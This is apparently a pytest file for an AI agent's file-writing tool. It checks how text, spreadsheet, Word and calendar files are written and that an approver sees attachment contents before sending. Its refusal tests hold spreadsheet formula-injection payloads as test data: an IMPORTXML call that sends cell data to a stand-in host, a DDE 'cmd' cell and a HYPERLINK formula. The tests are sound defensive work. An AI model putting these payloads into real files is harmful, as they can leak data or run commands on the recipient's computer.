"""A file that an agent makes: what is in it, and that the person who approves its sending sees that."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import Any

import pytest

from deputize.core import ApprovalRequired, Call, Deputy, InvalidInput
from deputize.sandbox import Sandbox
from deputize.toolkits._documents import writer
from tests.support.sandbox_deputy import build, connect
from tests.toolkits.made_files import asked

TABLE = [["Name", "Amount"], ["Rent", 1200], ["Zoë, Ltd", 12.5], ["Paid", True], ["Note", None]]
MARKDOWN = """# Offer

Dear **Bob**, see [our site](https://acme.example/offer).

1. one
   - nested
2. two

| Item | Price |
|---|---|
| Rent | 1200 |
"""


async def written(deputy: Deputy, **arguments: Any) -> tuple[dict[str, Any], bytes]:
    """Return the tool's result, and the bytes of the file."""
    made = await deputy.act("files_write", arguments, user="alice")
    return made, (await deputy.get_file("alice", made["file"])).content


async def question(deputy: Deputy, tool: str, **arguments: Any) -> str:
    """Return what the person is asked about a call."""
    [error] = await deputy.check_calls([(tool, arguments, Call("thread", "message", "1"))], user="alice")
    assert isinstance(error, ApprovalRequired)
    return "\n".join(f"{name}: {value}" for name, value in error.approval.preview.items())


# ----------------------------------------------------------------- what is in it


@pytest.mark.parametrize("name", ["a.txt", "a.md", "Report.CSV", "a.html"])
@pytest.mark.parametrize("text", ["one\r\ntwo\r\n", "one\ntwo", "\ufeffZoë\n", ""])
async def test_text_is_written_byte_by_byte(name: str, text: str) -> None:
    async with await build() as deputy:
        made, content = await written(deputy, name=name, text=text)
    assert content == text.encode() and made["name"] == name and made["size"] == len(content)


async def test_rows_become_a_table_of_each_kind() -> None:
    async with await build() as deputy:
        made, content = await written(deputy, name="costs.csv", rows=TABLE)
        assert made["mime"] == "text/csv"
        assert list(csv.reader(io.StringIO(content.decode(), newline=""))) == [
            ["Name", "Amount"],
            ["Rent", "1200"],
            ["Zoë, Ltd", "12.5"],
            ["Paid", "true"],
            ["Note", ""],
        ]
        assert (await written(deputy, name="costs.tsv", rows=TABLE))[1].startswith(b"Name\tAmount\r\nRent\t1200\r\n")
        made, content = await written(deputy, name="costs.xlsx", rows=TABLE)
        read = await deputy.act("files_read", {"file": made["file"]}, user="alice")
    assert read["kind"] == "xlsx" and "A3: Zoë, Ltd | 12.5\nA4: Paid | TRUE\nA5: Note" in read["text"]


async def test_markdown_becomes_a_word_file() -> None:
    async with await build() as deputy:
        made, _ = await written(deputy, name="offer.docx", text=MARKDOWN)
        read = await deputy.act("files_read", {"file": made["file"]}, user="alice")
    lines = ["# Offer", "Dear Bob, see our site (https://acme.example/offer).", "1.\tone", "\u2022\tnested", "2.\ttwo"]
    assert read["text"].split("\n") == [*lines, "| Item | Price |", "| Rent | 1200 |"]


async def test_calendar_file_has_the_line_ends_of_its_standard() -> None:
    async with await build() as deputy:
        _, content = await written(deputy, name="a.ics", text="BEGIN:VCALENDAR\nEND:VCALENDAR\n")
    assert content == b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"


def test_text_in_a_cell_stays_text_in_excel() -> None:
    cells = ['=HYPERLINK("http://evil.test")', "https://a.example", "007", "-1+1", str(2**60)]
    made = writer.make_xlsx([["h"], *([cell] for cell in cells), [2**60]])
    sheet = asked(made)["parts"][0]["text"]
    assert [line.partition(": ")[2] for line in sheet.split("\n")[1:]] == [*cells, str(2**60)]
    with zipfile.ZipFile(io.BytesIO(made)) as book:
        inside = book.read("xl/worksheets/sheet1.xml")
    assert b"<row " in inside and b"<f>" not in inside and b"hyperlink" not in inside


def test_iso_date_in_a_cell_is_a_date_in_excel_and_reads_the_same() -> None:
    days = ["2026-12-01", "1899-12-31", "2026-02-30", "2026-12-01x", "9999-12-31"]
    made = writer.make_xlsx([["2026-12-01"], *([day] for day in days)])
    sheet = zipfile.ZipFile(io.BytesIO(made)).read("xl/worksheets/sheet1.xml").decode()
    assert re.findall(r'<c r="(A\d)" s="\d"><v>(\d+)</v>', sheet) == [("A2", "46357"), ("A6", "2958465")]
    assert all(f"A{n}: {day}" in asked(made)["parts"][0]["text"] for n, day in enumerate(days, 2))


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ({"name": "a.exe", "text": "x"}, "exe"),
        ({"name": "noname", "text": "x"}, "extension"),
        ({"name": "a.txt"}, "one of them"),
        ({"name": "a.csv", "text": "x", "rows": [["x"]]}, "one of them"),
        ({"name": "a.txt", "rows": [["x"]]}, "rows"),
        ({"name": "a.xlsx", "text": "x"}, "rows"),
        ({"name": "a.csv", "rows": []}, "rows"),
        ({"name": "a.csv", "rows": [["x"] * 201]}, "columns"),
        ({"name": "a.json", "text": '{"a": 1,}'}, "line 1, column 9"),
        ({"name": "a.ics", "text": "Meeting"}, "VCALENDAR"),
        ({"name": "a.txt", "text": "a\x07b"}, "U\\+0007 at 1"),
        ({"name": "a.csv", "rows": [["a\x00"]]}, "row 1"),
        ({"name": "a.csv", "rows": [["a"], ['=IMPORTXML("http://evil.test/"&A1)']]}, "row 2"),
        ({"name": "a.csv", "text": "a,b\r\nc,\" +cmd|' /C calc'!A0\"\r\n"}, "row 2"),
        ({"name": "a.tsv", "text": "a\t@SUM(1)\n"}, "row 1"),
    ],
)
async def test_file_that_cannot_be_meant_is_refused_with_its_place(arguments: dict[str, Any], said: str) -> None:
    async with await build() as deputy:
        with pytest.raises(InvalidInput, match=said) as e:
            await deputy.act("files_write", arguments, user="alice")
    assert e.value.hint


@pytest.mark.parametrize("cell", ["+49 170 1234567", "-12.50", "@alice", "-", "a=b", "1/2"])
async def test_phone_numbers_and_names_are_no_formulas(cell: str) -> None:
    async with await build() as deputy:
        _, content = await written(deputy, name="a.csv", rows=[[cell]])
    assert content.decode().strip() == cell


# ----------------------------------------------------------------- what the person sees of it


FILES: list[dict[str, Any]] = [
    {"name": "a.csv", "rows": [["Card"], ["4929 1234"]]},
    {"name": "a.xlsx", "rows": [["Card"], ["4929 1234"]]},
    {"name": "a.docx", "text": "Card 4929 1234"},
    {"name": "a.json", "text": '{"card": "4929 1234"}'},
]


@pytest.mark.parametrize("arguments", FILES, ids=lambda one: one["name"])
async def test_question_about_a_mail_shows_the_text_of_its_files(arguments: dict[str, Any]) -> None:
    sandbox = Sandbox()
    async with await build(sandbox) as deputy:
        await connect(deputy, sandbox, "compose", "readonly")
        made, _ = await written(deputy, **arguments)
        mail = {"to": ["dora@example.test"], "subject": "Costs", "body": "Here.", "attachments": [made["file"]]}
        assert "4929 1234" in await question(deputy, "gmail_send_email", **mail)
        draft = await deputy.act("gmail_save_draft", mail, user="alice")
        assert "4929 1234" in await question(deputy, "gmail_send_draft", draft_id=draft["draft_id"])


async def test_question_about_a_long_file_says_that_it_shows_the_beginning() -> None:
    sandbox = Sandbox()
    async with await build(sandbox) as deputy:
        await connect(deputy, sandbox, "compose", "readonly")
        made, _ = await written(deputy, name="a.txt", text="x" * 19_999 + "yz")
        mail = {"to": ["dora@example.test"], "subject": "s", "body": "b", "attachments": [made["file"]]}
        shown = await question(deputy, "gmail_send_email", **mail)
    assert "The beginning of its text:" in shown and "xy" in shown and "yz" not in shown


async def test_json_file_is_what_was_given() -> None:
    async with await build() as deputy:
        _, content = await written(deputy, name="a.json", text='{"b": [1, 2.50]}')
    assert content == b'{"b": [1, 2.50]}' and json.loads(content)
